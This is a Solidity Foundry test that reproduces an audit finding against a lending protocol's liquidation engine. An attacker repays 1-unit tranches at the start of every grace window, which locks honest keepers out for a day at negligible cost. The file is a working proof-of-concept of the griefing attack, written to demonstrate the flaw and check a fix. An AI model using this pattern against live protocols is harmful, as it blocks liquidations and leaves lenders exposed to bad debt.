// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {ILiquidationEngine} from "../../contracts/interfaces/ILiquidationEngine.sol";
import {AdversarialBase} from "./AdversarialBase.sol";

/// @notice Attack (audit finding M-1): a griefer (the owner's second account, or anyone) liquidates a 1-unit tranche
/// in the first block after every grace window. Each tranche restarts the grace window and the time-bonus clock, so
/// honest keepers are refused for a whole day while the position stays below maintenance.
/// @dev This is the attack as it works on the code before the fix: the test passes when the attack succeeds.
contract GraceWindowGriefingTest is AdversarialBase {
    uint256 internal constant COOLDOWN = 300;
    uint256 internal constant ONE_DAY_OF_WINDOWS = 1 days / COOLDOWN; // 288

    function setUp() public override {
        super.setUp();
        _fundAttacker(1_000 * USDC);
        // Partial-tranche region: ratio 2400 * 10 / 21000 = 1.1428 (maintenance 1.2, full liquidation 1.08).
        oracle.setPrice(_price(2400));
        vm.prank(RISK_MANAGER);
        engine.setTimeBonus(marketId, uint256(0.01e18) / 1 hours);
    }

    /// @dev The griefer takes 1 unit, then the honest keeper asks for the tranche the engine sized, every window.
    function test_oneUnitTranches_holdHonestKeepersOffForADay() public {
        uint256 sized = engine.previewLiquidation(positionId).repaidAssets;
        assertEq(sized, 5_250 * USDC, "the engine sizes a 5,250 USDC tranche (25 % cap)");
        uint256 attackerBefore = quote.balanceOf(ATTACKER);
        uint256 honestRefusals;

        for (uint256 i = 0; i < ONE_DAY_OF_WINDOWS; ++i) {
            vm.prank(ATTACKER);
            (uint256 griefRepaid, ) = engine.liquidate(positionId, 1, ATTACKER, "");
            assertEq(griefRepaid, 1, "the griefer repays one unit");

            vm.prank(KEEPER);
            try engine.liquidate(positionId, type(uint256).max, KEEPER, "") {
                // The honest tranche went through.
            } catch (bytes memory reason) {
                assertEq(bytes4(reason), ILiquidationEngine.InGracePeriod.selector, "refused for the grace window");
                ++honestRefusals;
            }
            vm.warp(block.timestamp + COOLDOWN);
        }

        assertEq(honestRefusals, ONE_DAY_OF_WINDOWS, "every honest tranche of the day was refused");
        assertLt(vault.positionHealth(positionId).ratio, 1.2e18, "still below maintenance after a day");
        assertEq(engine.extraBonusOf(positionId), 0, "the time bonus never grew");
        // Each grief pays 1 unit plus a 1-unit fee (rounded up): 576 units, 0.000576 USDC for the day.
        assertEq(attackerBefore - quote.balanceOf(ATTACKER), 2 * ONE_DAY_OF_WINDOWS, "the day cost 0.000576 USDC");
    }
}
